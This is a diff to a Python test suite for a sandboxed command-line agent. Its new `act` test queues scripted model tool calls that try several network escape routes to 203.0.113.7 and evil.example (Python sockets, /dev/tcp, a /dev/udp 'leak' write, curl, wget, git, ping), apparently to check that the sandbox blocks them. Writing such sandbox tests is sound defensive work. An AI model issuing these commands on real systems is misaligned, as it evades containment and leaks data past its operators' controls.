@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import json
 from typing import TYPE_CHECKING, Any
 
 from tests.netns.hostile import EVIL, SETTINGS
 from tests.support.answers import Answer
 from tests.support.lsp_client import LspClient, ReplyFailed
+from tests.support.streams import chat_stream
 
 if TYPE_CHECKING:
     from tests.netns.world import World
@@ -21,6 +23,25 @@ def go_on(world: World) -> list[Any]:
     """Go on with a conversation, and look at what there is."""
     said = [world.run("exec", "hi"), world.run("exec", "resume", "--last", "more")]
     return [*said, *(world.run(command) for command in ("threads", "stats", "profiles"))]
+
+
+def act(world: World) -> Any:
+    """A model that tries every way out that a command has."""
+    python = "python3 -c 'import socket; socket.create_connection((\"203.0.113.7\", 443), 2)'"
+    ways = (
+        f"{python}; echo status $?",
+        "exec 3<>/dev/tcp/203.0.113.7/80; echo status $?",
+        "exec 3<>/dev/udp/203.0.113.7/53 && echo leak >&3; echo status $?",
+        "getent hosts evil.example; git ls-remote https://203.0.113.7/x; echo status $?",
+        "curl -m 2 http://203.0.113.7/ || wget -T 2 -t 1 http://203.0.113.7/; ping -c1 203.0.113.7; echo status $?",
+    )
+    for number, command in enumerate(ways):
+        function = {"name": "shell", "arguments": json.dumps({"command": command})}
+        call = {"index": 0, "id": f"c{number}", "type": "function", "function": function}
+        world.model.enqueue(chat_stream(tool_calls=[call], finish_reason="tool_calls"))
+    code, text = world.run("exec", "--sandbox", "workspace-write", "do it")
+    messages = world.model.turns[-1].json["messages"]
+    return [code, text, [m["content"] for m in messages if m["role"] == "tool"]]
 
 
 def redirected(world: World) -> Any:
@@ -46,6 +67,18 @@ def named(world: World) -> Any:
     """The same by its name."""
     no_proxy = {name: "" for name in world.env if name.lower().endswith("_proxy")}
     return world.run("exec", "--profile", "named", "hi", env=no_proxy)
+
+
+def past_the_proxy(world: World) -> list[Any]:
+    """A server on the user's own network, which a range in NO_PROXY lets past a proxy that is not there."""
+    world.configure("http://10.9.8.7:1234/v1")
+    exempt = {
+        "HTTP_PROXY": "http://127.0.0.1:9",
+        "http_proxy": "http://127.0.0.1:9",
+        "NO_PROXY": "127.0.0.0/8, 10.0.0.0/8",
+        "no_proxy": "127.0.0.0/8, 10.0.0.0/8",
+    }
+    return [world.run("exec", "hi", env=exempt), world.run("doctor", env=exempt)]
 
 
 def look_around(world: World) -> Any:
